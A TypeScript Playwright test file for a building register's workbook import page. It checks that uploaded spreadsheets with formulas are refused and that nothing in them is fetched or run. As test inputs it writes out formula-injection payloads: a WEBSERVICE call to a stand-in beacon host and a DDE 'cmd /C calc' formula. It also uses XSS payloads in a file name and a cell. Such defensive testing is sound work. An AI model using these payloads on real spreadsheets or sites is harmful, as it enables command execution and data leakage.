import { readFileSync } from 'node:fs';
import { apartmentHouse } from '@strata/fictional-register';
import { listenForBeacons } from '../support/hostile-text.ts';
import { expect, test } from '../support/test.ts';
import { workbookByHand } from '../support/workbooks/by-hand.ts';
import { fictionalWorkbook } from '../support/workbooks/fictional-workbook.ts';
import { countedUnits, givenPlan } from '../support/workbooks/given-plan.ts';
import { importPage, saved } from '../support/workbooks/import-page.ts';
import { openDownload, sheetOf } from '../support/workbooks/spreadsheet.ts';
import { withoutUnits } from '../support/workbooks/units.ts';

const formula = 'The cell holds a formula. Paste its result as a value instead';

test('formulas are refused by their cells, and nothing they say is fetched or shown as code (T36)', async ({
  page,
}) => {
  const beacons = listenForBeacons(page.context());
  const { id, pageOf } = await givenPlan(page, 'A100020', withoutUnits(apartmentHouse));
  await page.goto(pageOf('units'));
  const onPage = importPage(page);
  const usual = ['1', 'Residential', 'Apartment'] as const;
  const hostile = workbookByHand('<img src=x onerror=window.__x=1>.xlsx', 'Units', [
    ['Floor', 'Occupancy use', 'Unit type', 'Unit number', 'Floor area (sqm)'],
    [...usual, { formula: '"1"&WEBSERVICE("https://beacon.invalid/")', result: '101' }, 71.35],
    [...usual, '102', { formula: 'HYPERLINK("https://beacon.invalid/",71.35)', result: '71.35' }],
    [...usual, '103', { formula: "cmd|'/C calc'!A0", result: '71.35' }],
    [...usual, '<script>window.__x=1</script>', '=1+1'],
  ]);
  await onPage.check(hostile, { wrong: 5 });
  expect(await onPage.listedErrors()).toEqual(
    new Map([
      ['Units!D2', formula],
      ['Units!E3', formula],
      ['Units!E4', formula],
      ['Units!D5', 'Use 20 characters or fewer'],
      ['Units!E5', 'Enter a number, not a formula'],
    ]),
  );
  const marked = await openDownload(await saved(page, onPage.marked));
  for (const { cells } of marked.sheets)
    expect([...(cells?.values() ?? [])].filter((cell) => cell.formula !== undefined)).toEqual([]);
  expect(sheetOf(marked, 'Units').rows[4]).toContain('=1+1');
  expect(await page.evaluate(() => '__x' in window)).toBe(false);
  expect(beacons).toEqual([]);
  expect(await countedUnits(id)).toEqual({ units: 0, area: null, acts: 0 });
});

test('what is no workbook, or not this one, is refused in words', async ({ page, complaints }) => {
  complaints.expect(/status of (415|422)/);
  const { id, pageOf } = await givenPlan(page, 'A100020', withoutUnits(apartmentHouse));
  await page.goto(pageOf('floors'));
  const onPage = importPage(page);
  const floors = await saved(page, onPage.template);
  const wrongTemplate = { ...fictionalWorkbook('units.ods'), buffer: readFileSync(await floors.path()) };
  await page.goto(pageOf('units'));
  const refusals = [
    [fictionalWorkbook('units-password.xlsx'), 'The selected file is password protected'],
    [{ ...fictionalWorkbook('units.ods'), name: 'Units.xlsx' }, 'must be an Excel workbook'],
    [{ ...wrongTemplate, name: 'Floors.xlsx' }, 'is a template for the sheet “Floors”'],
    [
      { ...workbookByHand('Units.xlsx', 'Units', []), buffer: Buffer.from('Floor;Unit\n1;101') },
      'must be an Excel workbook',
    ],
    [
      workbookByHand('Empty.xlsx', 'Units', [['Floor', 'Unit number', 'Use', 'Unit type', 'Area']]),
      'no rows below its titles',
    ],
  ] as const;
  for (const [file, words] of refusals) {
    await onPage.file.setInputFiles(file);
    await expect(page.getByText(words, { exact: false }).first()).toBeVisible();
  }
  expect(await countedUnits(id)).toEqual({ units: 0, area: null, acts: 0 });
});
